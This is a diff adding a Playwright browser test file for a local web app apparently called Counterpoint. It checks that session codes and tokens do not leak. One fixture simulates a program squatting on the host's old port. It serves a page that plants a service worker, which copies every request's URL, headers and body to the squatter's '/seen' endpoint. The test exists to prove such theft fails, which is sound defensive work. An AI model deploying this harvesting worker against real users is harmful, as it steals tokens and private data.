@@ -1,0 +1,156 @@
+import { createServer } from 'node:http';
+import { join } from 'node:path';
+import type { Page } from '@playwright/test';
+import { WebSocketServer } from 'ws';
+import { writeLaunchFile } from '../../../cli/shells/launch-file';
+import { askRunningHost } from '../../../cli/shells/running-host';
+import { openSession } from '../../../host/web/session';
+import { expect, type TestHost, test } from '../../support/fixtures';
+import { MapPage } from '../../support/map-page';
+
+/** A program of somebody else at the port of a host that has ended. */
+interface Squatter {
+  readonly heard: string[];
+  close(): Promise<void>;
+}
+
+/** Its page leaves a service worker, which reports all that it sees. */
+const PAGE = `<!doctype html><title>squatter</title><script>
+navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready).then(() => { document.title = 'planted'; });
+</script>`;
+const WORKER = `
+self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
+self.addEventListener('fetch', (event) => {
+  event.respondWith((async () => {
+    const seen = event.request.url + ' ' + JSON.stringify([...event.request.headers]) + ' ' + await event.request.clone().text();
+    await fetch('/seen', { method: 'POST', body: seen }).catch(() => undefined);
+    return fetch(event.request);
+  })());
+});`;
+
+async function squat(port: number): Promise<Squatter> {
+  const heard: string[] = [];
+  const server = createServer(async (request, response) => {
+    let body = '';
+    for await (const chunk of request) body += String(chunk);
+    heard.push(`${request.url} ${JSON.stringify(request.headers)} ${body}`);
+    response.setHeader('content-type', request.url === '/worker.js' ? 'text/javascript' : 'text/html');
+    response.end(request.url === '/worker.js' ? WORKER : PAGE);
+  });
+  const sockets = new WebSocketServer({ server });
+  sockets.on('connection', (socket) =>
+    socket.on('message', (message) => {
+      heard.push(`socket ${String(message)}`);
+      socket.send(JSON.stringify({ nonce: 'n'.repeat(32), proof: 'p'.repeat(43), token: 't'.repeat(32) }));
+    }),
+  );
+  await new Promise<void>((resolve, reject) => {
+    server.once('error', reject);
+    server.listen(port, '127.0.0.1', resolve);
+  });
+  return {
+    heard,
+    async close() {
+      sockets.close();
+      for (const socket of sockets.clients) socket.terminate();
+      server.closeAllConnections();
+      await new Promise((resolve) => server.close(resolve));
+    },
+  };
+}
+
+/** Returns the token of the next call of a window. */
+async function tokenOf(page: Page): Promise<string> {
+  const call = await page.waitForRequest(/\/call\//);
+  return (await call.allHeaders())['x-counterpoint-token'] ?? '';
+}
+
+const write = async (map: MapPage, text: string) => {
+  await map.canvas.focus();
+  await map.press('ArrowDown', '-');
+  await map.type(text);
+  await map.press('Enter');
+};
+
+async function launchFile(host: TestHost): Promise<string> {
+  const path = join(host.folder, 'open.html');
+  const address = await askRunningHost(await openSession(host.data, host.library));
+  if (!address) throw new Error('the host does not answer');
+  await writeLaunchFile(path, address);
+  return `file://${path}`;
+}
+
+test('a file opens a window: no address or history has its code, a reload goes on, others need a new code', {
+  tag: '@browser',
+}, async ({ host, context, browser, foreignRequests }) => {
+  const file = await launchFile(host);
+  const window = await context.newPage();
+  const visited: string[] = [];
+  window.on('framenavigated', (frame) => visited.push(frame.url()));
+  await window.goto(file);
+  const map = new MapPage(window);
+  await map.ready();
+  const own = `${new URL(host.address).origin}/`;
+  expect(new Set(visited)).toEqual(new Set([file, own]));
+  expect(await window.content()).not.toContain('counterpoint-code');
+  await window.reload();
+  await map.ready();
+  await window.goto(file);
+  await map.ready();
+  const stranger = await (await browser.newContext()).newPage();
+  await stranger.goto(file);
+  await expect(stranger.getByText(/Start Counterpoint again/)).toBeVisible();
+  await stranger.context().close();
+  expect(new Set(foreignRequests.splice(0))).toEqual(new Set([`document ${file}`]));
+});
+
+test('a window without a code and without the key of this run is told to start again', { tag: '@browser' }, async ({
+  host,
+  browser,
+}) => {
+  const stranger = await browser.newContext();
+  const window = await stranger.newPage();
+  await window.goto(new URL(host.address).origin);
+  await expect(window.getByText(/Start Counterpoint again/)).toBeVisible();
+  await stranger.close();
+});
+
+test('another program at the port of a host that has ended learns nothing that the next run accepts', {
+  tag: '@browser',
+}, async ({ map, host, context, foreignRequests, pageErrors }) => {
+  await map.newMap('Squatted');
+  const first = tokenOf(map.page);
+  await write(map, 'Before');
+  const secrets = [await first];
+  await map.saved();
+  const before = await openSession(host.data, host.library);
+  const port = Number(new URL(host.address).port);
+  await host.kill();
+  const squatter = await squat(port);
+  await expect.poll(() => squatter.heard.some((message) => message.startsWith('socket '))).toBe(true);
+  await write(map, 'Said to nobody');
+  // A tab that is reloaded meanwhile gets the page of the other program, which leaves a service worker.
+  const fooled = await context.newPage();
+  await fooled.goto(`http://127.0.0.1:${port}/`);
+  await expect.poll(() => fooled.title()).toBe('planted');
+  await fooled.close();
+  await squatter.close();
+
+  await host.start();
+  const next = await context.newPage();
+  const later = tokenOf(next);
+  await next.goto(host.address);
+  const window = new MapPage(next);
+  await window.ready();
+  secrets.push(await later, before.previous.runKey);
+  expect(await next.evaluate(() => navigator.serviceWorker.controller)).toBeNull();
+  expect(new URL(next.url()).port).not.toBe(String(port));
+  for (const secret of secrets) {
+    expect(secret.length).toBeGreaterThan(20);
+    expect(squatter.heard.join()).not.toContain(secret);
+  }
+  expect(squatter.heard.join()).not.toContain('Said to nobody');
+  foreignRequests.length = 0;
+  pageErrors.length = 0;
+});
